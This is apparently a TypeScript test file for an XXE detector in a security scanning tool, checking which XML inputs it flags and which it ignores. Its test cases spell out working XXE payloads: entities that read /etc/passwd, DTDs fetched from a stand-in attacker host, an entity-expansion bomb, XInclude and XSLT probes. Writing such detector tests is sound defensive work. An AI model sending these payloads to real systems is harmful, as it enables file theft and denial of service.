import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { xxeDetector as d } from '../src/detect/detect-xxe.js';
import { decodeRequest } from '../src/decode/decode-request.js';
import { resolveConfig } from '../src/config/config.js';
import { analyzeExchange } from '../src/detect/analyze-exchange.js';
import type { CapturedExchange } from '../src/core/model.js';
import { hostile, inspectValue, rulesFor } from './helpers/detect-point.js';
import { capturedExchange } from './helpers/exchange.js';

function xmlExchange(body: string): CapturedExchange {
  return capturedExchange({
    method: 'POST',
    target: '/api/import',
    headers: [['content-type', 'application/xml']],
    body,
  });
}

describe('XXE detector', () => {
  it('judges the decoder ENTITY points: external, parameter', () => {
    assert.deepEqual(rulesFor(d, 'SYSTEM "file:///etc/passwd"', { location: 'body.xml.!entity.xxe' }), ['ST-XXE-001']);
    assert.deepEqual(rulesFor(d, 'SYSTEM "http://x.example/e.dtd"', { location: 'body.xml.!entity.%xxe' }), [
      'ST-XXE-002',
    ]);
    assert.deepEqual(rulesFor(d, '"lol"', { location: 'body.xml.!entity.lol' }), []);
  });
  it('reports XXE end to end from an XML body', () => {
    const cfg = resolveConfig({}).analysis;
    const ex = xmlExchange(
      '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    );
    const req = decodeRequest(ex, cfg.limits, Number.POSITIVE_INFINITY);
    assert.ok(req.points.some((p) => p.location === 'body.xml.!entity.xxe'));
    const rules = analyzeExchange(ex, cfg, [d]).findings.map((f) => f.ruleId);
    assert.ok(rules.includes('ST-XXE-001'), `${rules}`);
  });
  const attacks: Array<[string, string]> = [
    ['<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', 'ST-XXE-001'],
    ['<!DOCTYPE foo [<!ENTITY % x SYSTEM "http://a.example/e.dtd"> %x;]>', 'ST-XXE-002'],
    ['<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>', 'ST-XXE-003'],
    ['<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>', 'ST-XXE-004'],
    ['<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></foo>', 'ST-XXE-005'],
    [
      '<xsl:stylesheet version="1.0"><xsl:value-of select="system-property(\'xsl:vendor\')"/></xsl:stylesheet>',
      'ST-XXE-006',
    ],
  ];
  for (const [value, rule] of attacks) {
    it(`flags ${value.slice(0, 60)} (${rule})`, () =>
      assert.ok(rulesFor(d, value).includes(rule), `${rulesFor(d, value)}`));
  }
  it('flags XInclude reported by the decoder as an attribute', () => {
    assert.deepEqual(rulesFor(d, 'file:///etc/passwd', { location: 'body.xml./foo/xi:include/@href' }), ['ST-XXE-005']);
  });
  const benign = [
    '<!DOCTYPE html><html><body>hi</body></html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    '<?xml version="1.0"?><order><id>7</id></order>',
    'Use <!-- comments --> in HTML',
    'Please include the invoice',
  ];
  for (const value of benign) it(`leaves ${value.slice(0, 60)} alone`, () => assert.deepEqual(rulesFor(d, value), []));
  it('survives 1 MB of declarations', () => {
    assert.ok(Array.isArray(inspectValue(d, hostile('<!ENTITY a "&b;&b;">'))));
  });
});
